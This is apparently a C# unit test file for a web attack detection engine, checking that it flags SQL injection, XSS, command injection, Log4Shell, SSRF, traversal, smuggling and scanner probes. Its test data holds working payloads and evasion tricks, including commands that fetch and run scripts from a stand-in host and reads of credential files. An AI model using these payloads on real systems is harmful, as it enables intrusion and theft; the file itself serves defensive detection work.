using Vedette.Engine.Signatures;
using static Vedette.Engine.Tests.Signatures.InspectorFixture;

namespace Vedette.Engine.Tests.Signatures;

public class AttackTests
{
    [Theory]
    [InlineData("1' or '1'='1")]
    [InlineData("1' OR 1=1-- -")]
    [InlineData("admin'--")]
    [InlineData("admin'/*")]
    [InlineData("') or ('x'='x")]
    [InlineData("\" or \"\"=\"")]
    [InlineData("1 and 1=2")]
    [InlineData("-1 UNION ALL SELECT NULL,NULL,version()--")]
    [InlineData("1/**/uNiOn/**/SeLeCt/**/password/**/from/**/users")]
    [InlineData("1 /*!50000union*/ /*!50000select*/ 1,2,3")]
    [InlineData("1; DROP TABLE users")]
    [InlineData("1'; exec xp_cmdshell 'dir'--")]
    [InlineData("1' AND SLEEP(5)#")]
    [InlineData("1;WAITFOR DELAY '0:0:5'--")]
    [InlineData("1 AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)")]
    [InlineData("1' AND extractvalue(1,concat(0x7e,(select @@version)))--")]
    [InlineData("1 order by 10--")]
    [InlineData("'||(select password from users limit 1)||'")]
    [InlineData("1) AND 5=5 AND (7=7")]
    [InlineData("' or count(/child::node())=1 or 'a'='b")]
    public void SqlInjection(string value) => AssertAttack(PayloadClass.SqlInjection, Value(value));

    [Theory]
    [InlineData(PayloadClass.SqlInjection, "nobody' UNION SELECT name, password FROM users")]
    [InlineData(PayloadClass.SqlInjection, "nobody' or 1=1-- -")]
    [InlineData(PayloadClass.SqlInjection, "nobody'; DROP TABLE users--")]
    [InlineData(PayloadClass.SqlInjection, "nobody' and sleep(9)#")]
    [InlineData(PayloadClass.Xss, "<img src=x onerror=alert(1)>")]
    [InlineData(PayloadClass.Xss, "<script>alert(document.cookie)</script>")]
    [InlineData(PayloadClass.CommandInjection, "x; cat /etc/passwd")]
    [InlineData(PayloadClass.Log4Shell, "${jndi:ldap://198.51.100.7/a}")]
    [InlineData(PayloadClass.PathTraversal, "../../../../etc/passwd")]
    public void NoSentenceBeforeACompletePayloadExcusesIt(PayloadClass expected, string payload) =>
        AssertAttack(expected, Value("Hello there, thank you for the quick delivery last week, my sister liked it and isn't sure about the color " + payload));

    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("\"><img src=x onerror=alert(1)>")]
    [InlineData("<svg/onload=confirm`1`>")]
    [InlineData("\" onmouseover=\"alert(document.cookie)")]
    [InlineData("javascript:alert(1)")]
    [InlineData("jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//")]
    [InlineData("<a href=\"java\tscript:alert(1)\">x</a>")]
    [InlineData("';alert(String.fromCharCode(88,83,83))//")]
    [InlineData("<iframe src=javascript:alert(1)>")]
    [InlineData("<body onload=alert('xss')>")]
    [InlineData("&lt;script&gt;alert(1)&lt;/script&gt;")]
    [InlineData("\\u003cscript\\u003ealert(1)\\u003c/script\\u003e")]
    [InlineData("PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==")]
    public void CrossSiteScripting(string value) => AssertAttack(PayloadClass.Xss, Value(value));

    [Theory]
    [InlineData("../../../../etc/passwd")]
    [InlineData("..\\..\\..\\windows\\win.ini")]
    [InlineData("....//....//....//etc/passwd")]
    [InlineData("/etc/shadow")]
    [InlineData("../../../../etc/passwd\0.png")]
    [InlineData("..;/..;/..;/manager")]
    public void PathTraversal(string value) => AssertAttack(PayloadClass.PathTraversal, Value(value));

    [Theory]
    [InlineData("f=%252e%252e%252f%252e%252e%252fetc%252fpasswd")]
    [InlineData("f=..%c0%af..%c0%af..%c0%afetc/passwd")]
    [InlineData("f=%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd")]
    [InlineData("f=..%5c..%5c..%5cboot.ini")]
    public void EncodedTraversal(string query) => AssertAttack(PayloadClass.PathTraversal, Query(query));

    [Theory]
    [InlineData("page=php://filter/convert.base64-encode/resource=index.php")]
    [InlineData("page=expect://id")]
    [InlineData("page=http://198.51.100.7/shell.txt?")]
    [InlineData("page=data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOw==")]
    public void FileInclusion(string query) => AssertAttack(PayloadClass.FileInclusion, Query(query));

    [Theory]
    [InlineData("127.0.0.1; cat /etc/passwd")]
    [InlineData("x|whoami")]
    [InlineData("`id -u`;ls -la")]
    [InlineData("$(curl http://198.51.100.7/x.sh)")]
    [InlineData("a && ping -c 10 127.0.0.1")]
    [InlineData(";cat${IFS}/etc/hosts")]
    [InlineData("() { :; }; echo vulnerable")]
    [InlineData("& dir c:\\ & cmd.exe /c whoami")]
    [InlineData(";w'h'o'am'i")]
    [InlineData("'wh'oami")]
    [InlineData("pi``ng -c 9 127.0.0.1")]
    [InlineData("<?php system($_GET['c']); ?>")]
    [InlineData("__import__('os').system('id')")]
    [InlineData("require('child_process').execSync('id')")]
    [InlineData("%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}")]
    [InlineData("rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ")]
    public void CommandInjection(string value) => AssertAttack(PayloadClass.CommandInjection, Value(value));

    [Theory]
    [InlineData("{{7*7}}")]
    [InlineData("${7*7}")]
    [InlineData("<%= 7*7 %>")]
    [InlineData("#{7*7}")]
    [InlineData("{{config.__class__.__init__.__globals__['os'].popen('id').read()}}")]
    [InlineData("{{''.__class__.__mro__[2].__subclasses__()}}")]
    [InlineData("<!--#exec cmd=\"ls\" -->")]
    public void TemplateInjection(string value) => AssertAttack(PayloadClass.TemplateInjection, Value(value));

    [Theory]
    [InlineData("*)(uid=*))(|(uid=*")]
    [InlineData("admin)(&)")]
    [InlineData("*)(objectClass=*")]
    [InlineData("x)(|(password=*))")]
    public void LdapInjection(string value) => AssertAttack(PayloadClass.LdapInjection, Value(value));

    [Theory]
    [InlineData("username[$ne]=1&password[$ne]=1", null)]
    [InlineData("user%5B%24gt%5D=", null)]
    [InlineData(null, "{\"user\":\"admin\",\"password\":{\"$ne\":null}}")]
    [InlineData(null, "{\"$where\":\"this.password.match(/a.*/)\"}")]
    [InlineData("q=%7B%22%24gt%22%3A%22%22%7D", null)]
    public void NosqlInjection(string? query, string? body) => AssertAttack(PayloadClass.NosqlInjection, Request(query: query, body: body));

    [Fact]
    public void ExternalEntities() => AssertAttack(PayloadClass.Xxe,
        Request(body: "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>"));

    [Theory]
    [InlineData("url=http://169.254.169.254/latest/meta-data/")]
    [InlineData("url=http%3A%2F%2F2130706433%2F")]
    [InlineData("url=http://0x7f.1/")]
    [InlineData("url=gopher://127.0.0.1:6379/_INFO")]
    [InlineData("url=http://[::ffff:169.254.169.254]/")]
    [InlineData("url=http://metadata.google.internal/computeMetadata/v1/")]
    public void ServerSideRequestForgery(string query) => AssertAttack(PayloadClass.Ssrf, Query(query));

    [Theory]
    [InlineData("${jndi:ldap://198.51.100.7/a}")]
    [InlineData("${${lower:j}ndi:${lower:l}dap://198.51.100.7/a}")]
    [InlineData("${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://198.51.100.7/a}")]
    [InlineData("${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//198.51.100.7/a}")]
    public void Log4Shell(string value)
    {
        AssertAttack(PayloadClass.Log4Shell, Value(value));
        AssertAttack(PayloadClass.Log4Shell, Request(agent: value));
        AssertAttack(PayloadClass.Log4Shell, Request(headers: "X-Api-Version: " + value + "\n"));
    }

    [Theory]
    [InlineData("lang=en%0d%0aSet-Cookie:%20admin=1")]
    [InlineData("next=%E5%98%8A%E5%98%8DLocation:%20https://example.com")]
    [InlineData("x=1%0d%0a%0d%0aHTTP/1.1%20200%20OK")]
    [InlineData("email=a%40b.com%0aBcc:%20victim%40example.com")]
    public void LineBreakInjection(string query) => AssertAttack(PayloadClass.CrlfInjection, Query(query));

    [Theory]
    [InlineData("Transfer-Encoding: chunked\nContent-Length: 6\n")]
    [InlineData("Transfer-Encoding: xchunked\n")]
    [InlineData("Content-Length: 5\nContent-Length: 6\n")]
    public void RequestSmuggling(string headers) => AssertAttack(PayloadClass.HttpSmuggling, Request(headers: headers));

    [Theory]
    [InlineData("/.env")]
    [InlineData("/.git/config")]
    [InlineData("/app/.aws/credentials")]
    [InlineData("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php")]
    [InlineData("/backup.sql")]
    [InlineData("/index.php.bak")]
    [InlineData("/actuator/heapdump")]
    [InlineData("/HNAP1")]
    [InlineData("/wp-content/c99.php")]
    public void Probes(string path) => AssertAttack(PayloadClass.Scanner, Request(path));

    [Theory]
    [InlineData("sqlmap/1.7.2#stable (https://sqlmap.org)")]
    [InlineData("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)")]
    [InlineData("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)")]
    public void ScannerNames(string agent) => AssertAttack(PayloadClass.Scanner, Request(agent: agent));

    [Fact]
    public void EveryPartOfARequestIsLookedAt()
    {
        const string attack = "1' union select null,version()-- ";
        AssertAttack(PayloadClass.SqlInjection, Request("/items/" + Uri.EscapeDataString(attack)));
        AssertAttack(PayloadClass.SqlInjection, Request(cookies: "id=" + Uri.EscapeDataString(attack)));
        AssertAttack(PayloadClass.SqlInjection, Request(referer: "https://example.com/?id=" + Uri.EscapeDataString(attack)));
        AssertAttack(PayloadClass.SqlInjection, Request(agent: attack));
        AssertAttack(PayloadClass.SqlInjection, Request(headers: "X-Forwarded-For: " + attack + "\n"));
        AssertAttack(PayloadClass.SqlInjection, Request(body: "a=b&c=" + Uri.EscapeDataString(attack)));
        AssertAttack(PayloadClass.SqlInjection, Request(body: "{\"a\":[\"" + attack + "\"]}"));
        AssertAttack(PayloadClass.SqlInjection, Request(query: Uri.EscapeDataString(attack) + "=1"));
    }

    [Fact]
    public void MoreEvidenceNeverLowersAScore()
    {
        Assert.True(Value("1' or 1=1 union select null,null-- ").Score >= Value("1' or 1=1").Score);
        Assert.True(Query("a=%3Cscript%3E&b=1%27%20or%201=1").Score >= Query("b=1%27%20or%201=1").Score);
    }

    private static void AssertAttack(PayloadClass expected, Inspection result)
    {
        Assert.True(result.IsAttack, $"score {result.Score}, main {result.Main}");
        Assert.True((result.Classes & expected.AsSet()) != 0, $"classes {result.Classes}");
    }

    [Theory]
    [InlineData("; c'a't /e\"t\"c/hos\"t\"s")]
    [InlineData(";w\\g\\et http://198.51.100.7/x")]
    [InlineData("|cat$IFS$9/etc/hosts")]
    [InlineData("x;{cat,/etc/group}")]
    [InlineData("/???/??t /e*/pas?wd")]
    [InlineData("a=/etc;b=/group;cat $a$b")]
    [InlineData("perl -e 'system(\"id\")'")]
    [InlineData("bash -c \"curl 198.51.100.7|sh\"")]
    [InlineData("for %f in (*.log) do del %f")]
    [InlineData("if exist c:\\boot.ini (type c:\\boot.ini)")]
    [InlineData("diff <(cat /a) <(ls /b)")]
    public void CommandsThatHideOrBranch(string value) => AssertAttack(PayloadClass.CommandInjection, Value(value));

    [Theory]
    [InlineData("$f('id')")]
    [InlineData("${'system'}('id')")]
    [InlineData("(\"sys\".\"tem\")(\"id\")")]
    [InlineData("<?= `id` ?>")]
    [InlineData("while(!null){}")]
    public void CodeWhoseFunctionsAreNamedByValues(string value) => AssertAttack(PayloadClass.CommandInjection, Value(value));

    [Theory]
    [InlineData("top[\"al\"+\"ert\"](1)")]
    [InlineData("self['al\\145rt'](document.domain)")]
    [InlineData("document/*x*/./*y*/cookie=1;eval(name)")]
    [InlineData("1;a=eval;b=alert;a(b(1))")]
    [InlineData("+((+!![]+[])+(!+[]+!![])+(![]+[]))")]
    [InlineData("<a href=\"data:text/x;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>")]
    [InlineData("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"></svg>")]
    public void ScriptThatHidesItsNames(string value) => AssertAttack(PayloadClass.Xss, Value(value));

    [Theory]
    [InlineData("' or ''*'")]
    [InlineData("a'^(0)='0")]
    [InlineData("1;begin dbms_lock.sleep(5); end--")]
    [InlineData("1) as t where 5=5")]
    [InlineData("(case when 7=7 then 1 else 0 end)")]
    [InlineData("x' or '{\"a\":1}'::jsonb <@ '{\"a\":1,\"b\":2}'::jsonb--")]
    [InlineData("`=``and(select 1)=1 or`x`=`x")]
    public void StatementsOfOtherDialects(string value) => AssertAttack(PayloadClass.SqlInjection, Value(value));

    [Theory]
    [InlineData("value)(gid<=100")]
    [InlineData("admin)(|(mail=*")]
    public void FilterBreaks(string value) => AssertAttack(PayloadClass.LdapInjection, Value(value));
}
